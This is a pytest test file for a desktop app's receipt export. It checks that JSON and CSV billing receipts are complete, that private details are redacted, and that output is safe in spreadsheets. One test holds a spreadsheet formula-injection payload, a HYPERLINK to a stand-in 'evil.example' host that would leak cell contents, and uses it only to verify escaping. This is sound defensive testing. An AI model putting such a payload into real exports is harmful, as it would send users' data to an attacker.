"""Receipts: complete for whatever may have been billed, exact, private, and safe to open in a spreadsheet."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from retake_desktop.domain.errors import ErrorKind, Problem
from retake_desktop.domain.job import Attempt, AttemptState, Job, Service, Stage
from retake_desktop.domain.retake import Mode
from retake_desktop.services.history import AttemptRecord, History
from retake_desktop.services.receipts import as_csv, as_json, receipts
from tests.services.examples import NOON, a_full_job, a_job

SERVICE = Service("https://model-api.runcomfy.net", "0" * 64, is_demo=False)


def _paid(job_id: str = "job-1", **changes: Any) -> Job:
    return replace(a_full_job(job_id), service=SERVICE, **changes)


def _attempt(state: AttemptState, number: int = 1, job_id: str = "job-1") -> AttemptRecord:
    return AttemptRecord(Attempt(job_id, number, state), NOON, NOON.replace(second=5))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_receipt_says_what_was_sent_when_and_what_became_of_it() -> None:
    [line] = as_json(receipts([_paid()], [_attempt(AttemptState.ACCEPTED)])).splitlines()
    assert json.loads(line, parse_float=Decimal) == {
        "job": "job-1",
        "request_id": "req_1-A",
        "model": "ltx/ltx-2/retake-video",
        "api_base": "https://model-api.runcomfy.net",
        "created_at": "2026-11-22T12:00:00.000Z",
        "submitted_at": "2026-11-22T12:00:00.000Z",
        "started_at": "2026-11-22T12:00:00.000Z",
        "finished_at": "2026-11-22T12:00:00.000Z",
        "seconds": Decimal("3.041667"),
        "frames": 73,
        "mode": "replace_video",
        "start_time": Decimal("0.041667"),
        "duration": Decimal("2.166667"),
        "estimate_usd": Decimal("0.70"),
        "cost_usd": Decimal("0.123456789012345678901234567890"),
        "outcome": "download_failed",
        "problem": "download_failed",
        "attempts": [
            {
                "number": 1,
                "state": "accepted",
                "began_at": "2026-11-22T12:00:00.000Z",
                "ended_at": "2026-11-22T12:00:05.000Z",
            }
        ],
    }


def test_the_table_holds_the_same() -> None:
    found = receipts([_paid()], [_attempt(AttemptState.UNKNOWN), _attempt(AttemptState.ACCEPTED, 2)])
    [row] = _rows(as_csv(found))
    assert row["cost_usd"] == "0.123456789012345678901234567890"
    assert row["estimate_usd"] == "0.70"
    assert (row["mode"], row["outcome"], row["problem"]) == ("replace_video", "download_failed", "download_failed")
    assert row["attempts"] == (
        "1 unknown 2026-11-22T12:00:00.000Z 2026-11-22T12:00:05.000Z; "
        "2 accepted 2026-11-22T12:00:00.000Z 2026-11-22T12:00:05.000Z"
    )
    assert set(row) == set(json.loads(as_json(found)))


@pytest.mark.parametrize(
    ("job", "states"),
    [
        (a_job(stage=Stage.READY, request_id="r"), []),
        (a_job(stage=Stage.UNKNOWN), []),
        (a_job(stage=Stage.CANCELLED), [AttemptState.UNKNOWN]),
        (a_job(stage=Stage.SUBMITTING), [AttemptState.REFUSED, AttemptState.SENDING]),
    ],
    ids=["adopted", "unknown", "given up", "on its way"],
)
def test_whatever_may_have_been_accepted_has_a_receipt(job: Job, states: list[AttemptState]) -> None:
    records = [_attempt(state, number) for number, state in enumerate(states, 1)]
    [receipt] = receipts([job], records)
    assert [one.state for one in receipt.attempts] == states


@pytest.mark.parametrize(
    ("job", "state"),
    [
        (a_job(stage=Stage.DRAFT), AttemptState.NOT_SENT),
        (a_job(stage=Stage.FAILED), AttemptState.REFUSED),
        (a_job("other"), AttemptState.REFUSED),
        (a_full_job(), AttemptState.ACCEPTED),
    ],
    ids=["not sent", "refused", "never tried", "demo"],
)
def test_what_cost_nothing_has_none(job: Job, state: AttemptState) -> None:
    assert receipts([job], [_attempt(state)]) == ()


def test_what_is_not_known_is_null_and_an_empty_cell_never_zero() -> None:
    found = receipts([a_job(stage=Stage.UNKNOWN)], [])
    data, [row] = json.loads(as_json(found)), _rows(as_csv(found))
    for name in ("request_id", "submitted_at", "seconds", "frames", "estimate_usd", "cost_usd", "problem"):
        assert data[name] is None, name
        assert row[name] == "", name
    assert (data["start_time"], data["duration"]) == (1, 2.5)


def test_the_oldest_comes_first() -> None:
    made = [a_job(str(day), stage=Stage.UNKNOWN, created_at=NOON.replace(day=day)) for day in (3, 1, 2)]
    assert [receipt.job for receipt in receipts(made, [])] == ["1", "2", "3"]


def test_the_prompt_and_nothing_else_private_is_there_only_when_asked_for() -> None:
    job = _paid()
    without, asked = receipts([job], []), receipts([job], [], with_prompts=True)
    for text in (as_json(without), as_csv(without)):
        assert "Gr" not in text
        assert "prompt" not in text
        for private in ("O'Brien", "sig=1", "cdn.runcomfy", "0" * 64, "/data/"):
            assert private not in text
    assert json.loads(as_json(asked))["prompt"] == job.request.prompt
    assert as_json(asked).isascii()
    [row] = _rows(as_csv(asked))
    assert row["prompt"] == job.request.prompt


@pytest.mark.parametrize("start", ["=", "+", "-", "@", " =", "\t", "\r", "\n="])
def test_no_cell_is_run_as_a_formula(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example?"&A1,"Refund")'
    job = a_job(stage=Stage.READY, request_id="-2+3")
    job = replace(job, request=replace(job.request, prompt=text))
    [row] = _rows(as_csv(receipts([job], [], with_prompts=True)))
    assert row["prompt"] == f"'{text}"
    assert row["request_id"] == "'-2+3"
    assert json.loads(as_json(receipts([job], [])))["request_id"] == "-2+3"


def test_the_kind_of_trouble_is_told_without_its_details() -> None:
    job = a_job(stage=Stage.FAILED, request_id="r", problem=Problem(ErrorKind.FAILED_AT_SERVICE, "at https://x/?sig=1"))
    text = as_json(receipts([job], []))
    assert json.loads(text)["problem"] == "failed_at_service"
    assert "sig" not in text


def test_no_receipt_is_an_empty_table_with_its_heading() -> None:
    assert as_json(()) == ""
    assert as_csv(()).startswith("job,request_id,model,")
    assert as_csv(()).count("\n") == 1


def test_the_record_tells_every_submission_with_its_times(tmp_path: Path) -> None:
    history = History(tmp_path / "jobs.sqlite")
    try:
        jobs = [a_job("a"), a_job("b", request=replace(a_job().request, mode=Mode.SOUND))]
        history.add(jobs)
        before = datetime.now(UTC)
        history.mark(history.begin_attempt(jobs[1]), AttemptState.REFUSED)
        second = history.begin_attempt(jobs[1])
        history.mark(second, AttemptState.SENDING)
        found = history.attempt_records()
        assert [(one.attempt.job_id, one.attempt.number, one.attempt.state) for one in found] == [
            ("b", 1, AttemptState.REFUSED),
            ("b", 2, AttemptState.SENDING),
        ]
        assert all(before <= one.created_at <= one.updated_at <= datetime.now(UTC) for one in found)
        history._connection.execute("UPDATE attempt SET updated_at = 'noon'")
        assert all(one.updated_at == one.created_at for one in history.attempt_records())
    finally:
        history.close()
